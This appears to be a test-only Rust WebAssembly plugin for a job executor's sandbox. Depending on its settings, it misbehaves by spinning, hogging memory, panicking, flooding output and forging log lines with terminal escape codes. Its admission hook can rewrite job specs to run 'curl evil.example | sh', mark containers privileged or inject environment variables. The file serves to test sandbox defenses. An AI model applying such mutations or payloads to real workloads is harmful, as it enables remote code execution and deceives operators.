//! Test-only plugin, written against the raw WIT contract without the SDK, that does whatever its settings ask, including everything a plugin must not.
#![cfg(target_arch = "wasm32")]
#![allow(missing_docs, unsafe_code, clippy::unwrap_used, clippy::expect_used)]

use std::cell::{Cell, RefCell};

// Built against the first version of the contract on purpose: every
// sandbox test then also proves that the host still runs 0.1.0 plugins.
wit_bindgen::generate!({ path: "../../../wit/0.1.0", world: "plugin" });

use executor::plugin::host::{
    self, AdmissionResponse, Decision, JobContext, Level, LogContext, LogRecord,
};
use exports::executor::plugin::{admission, lifecycle, log_filter};

thread_local! {
    static SETTINGS: RefCell<serde_json::Value> = const { RefCell::new(serde_json::Value::Null) };
    static CALLS: Cell<u32> = const { Cell::new(0) };
}

fn setting(key: &str, default: &str) -> String {
    SETTINGS.with(|s| {
        s.borrow()
            .get(key)
            .and_then(|v| v.as_str())
            .unwrap_or(default)
            .to_owned()
    })
}

/// What to do in `hook`: the setting, or with `by-image`, what the job's
/// first step image asks for (`misbehave/<mode>:<tag>`, else nothing), so
/// that one plugin chain can misbehave differently per job.
fn mode(hook: &str, ctx: &JobContext) -> String {
    let mode = setting(hook, "");
    if mode != "by-image" {
        return mode;
    }
    ctx.step_images
        .first()
        .and_then(|image| image.strip_prefix("misbehave/"))
        .and_then(|rest| rest.split(':').next())
        .unwrap_or_default()
        .to_owned()
}

/// Bytes of text the `flood` modes return: far more than anyone should print.
const FLOOD: usize = 8 << 20;
/// Text that would forge a line of the job's log and drive a terminal
/// (clear the screen, set the window title) if printed raw.
const FORGED: &str = "nope\nmisbehave: the job succeeded\r\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}";

fn spin() -> ! {
    let mut x = 0u64;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

fn hog() -> ! {
    let mut keep = Vec::new();
    loop {
        keep.push(vec![1u8; 1 << 20]);
        std::hint::black_box(&keep);
    }
}

fn sleep() {
    std::thread::sleep(std::time::Duration::from_secs(3600));
}

struct Guest;

impl lifecycle::Guest for Guest {
    fn init(settings: String) -> Result<(), String> {
        let value: serde_json::Value =
            serde_json::from_str(&settings).map_err(|e| e.to_string())?;
        SETTINGS.with(|s| *s.borrow_mut() = value);
        match setting("init", "ok").as_str() {
            "reject" => Err("setting `threshold` must be a number, got \"high\"".into()),
            "trap" => panic!("init exploded"),
            "flood" => Err("e".repeat(FLOOD)),
            "forge" => Err(FORGED.into()),
            _ => Ok(()),
        }
    }
}

impl admission::Guest for Guest {
    fn admit(ctx: JobContext, job: String) -> Result<AdmissionResponse, String> {
        let allow = |decision| {
            Ok(AdmissionResponse {
                decision,
                warnings: vec![],
            })
        };
        let mut doc: serde_json::Value = serde_json::from_str(&job).map_err(|e| e.to_string())?;
        let pod = &mut doc["spec"]["template"]["spec"];
        match mode("admit", &ctx).as_str() {
            "deny" => allow(Decision::Deny(format!(
                "job {} of queue {} is not welcome",
                ctx.job_id, ctx.queue
            ))),
            "error" => Err("cannot decide".into()),
            "flood-error" => Err("e".repeat(FLOOD)),
            "flood-deny" => allow(Decision::Deny("d".repeat(FLOOD))),
            "flood-warnings" => Ok(AdmissionResponse {
                decision: Decision::Allow,
                warnings: vec!["w".repeat(64); 200_000],
            }),
            "forge" => {
                host::log(Level::Warn, FORGED);
                println!("{FORGED}");
                Ok(AdmissionResponse {
                    decision: Decision::Deny(FORGED.into()),
                    warnings: vec![FORGED.into()],
                })
            }
            "forge-error" => Err(FORGED.into()),
            "loop" => spin(),
            "hog" => hog(),
            "trap" => panic!("admit exploded"),
            "sleep" => {
                sleep();
                allow(Decision::Allow)
            }
            "not-json" => allow(Decision::AllowMutated("{\"kind\": \"Job\", oops".into())),
            "not-object" => allow(Decision::AllowMutated("[1, 2, 3]".into())),
            "command" => {
                pod["containers"][0]["command"] =
                    serde_json::json!(["sh", "-c", "curl evil.example | sh"]);
                allow(Decision::AllowMutated(doc.to_string()))
            }
            "privileged" => {
                pod["containers"][0]["securityContext"] = serde_json::json!({"privileged": true});
                allow(Decision::AllowMutated(doc.to_string()))
            }
            "env" => {
                pod["containers"][0]["env"] =
                    serde_json::json!([{"name": "INJECTED", "value": "1"}]);
                allow(Decision::AllowMutated(doc.to_string()))
            }
            // In scope, but the API server would refuse the result.
            "annotations-number" => {
                doc["metadata"]["annotations"] = serde_json::json!(42);
                allow(Decision::AllowMutated(doc.to_string()))
            }
            "annotations-huge" => {
                doc["metadata"]["annotations"]["misbehave/big"] =
                    serde_json::json!("a".repeat(300 * 1024));
                allow(Decision::AllowMutated(doc.to_string()))
            }
            // Whole new objects whose keys alone would look in scope.
            "new-init-container" => {
                pod["initContainers"]
                    .as_array_mut()
                    .unwrap()
                    .push(serde_json::json!({"resources": {"limits": {"cpu": "1"}}}));
                allow(Decision::AllowMutated(doc.to_string()))
            }
            "empty-dns-config" => {
                pod["dnsConfig"] = serde_json::json!({});
                allow(Decision::AllowMutated(doc.to_string()))
            }
            "annotate" => {
                doc["metadata"]["annotations"]["misbehave/seen"] = serde_json::json!(ctx.job_id);
                Ok(AdmissionResponse {
                    decision: Decision::AllowMutated(doc.to_string()),
                    warnings: vec!["annotated".into()],
                })
            }
            "chatty" => {
                println!("hello from stdout");
                eprintln!("hello from stderr");
                for i in 0..1000 {
                    host::log(Level::Info, &format!("message {i}"));
                }
                allow(Decision::Allow)
            }
            _ => allow(Decision::Allow),
        }
    }
}

impl log_filter::Guest for Guest {
    fn filter(ctx: LogContext, records: Vec<LogRecord>) -> Result<Vec<LogRecord>, String> {
        let call = CALLS.with(|c| {
            c.set(c.get() + 1);
            c.get()
        });
        match mode("filter", &ctx.job).as_str() {
            "loop" => spin(),
            "hog" => hog(),
            "trap" => panic!("filter exploded"),
            "error" => Err("cannot filter".into()),
            // What a plugin prints goes through WASI's output streams.
            "chatty" => {
                println!("filtering {} records", records.len());
                eprintln!("to stderr too");
                Ok(records)
            }
            // Says it has started (through the `log` import, which the host
            // handles at once), then never returns.
            "announce-loop" => {
                host::log(Level::Info, "filter started");
                spin()
            }
            // Fails on an instance's second batch, so recovery is observable.
            "trap-second" if call == 2 => panic!("second batch exploded"),
            "drop-all" => Ok(vec![]),
            "upper" => Ok(records
                .into_iter()
                .map(|r| LogRecord {
                    text: r.text.to_uppercase(),
                    ..r
                })
                .collect()),
            // Numbers each batch by how many this instance has seen.
            "number" => Ok(records
                .into_iter()
                .map(|r| LogRecord {
                    text: format!("{call}:{}", r.text),
                    ..r
                })
                .collect()),
            _ => Ok(records),
        }
    }
}

export!(Guest);
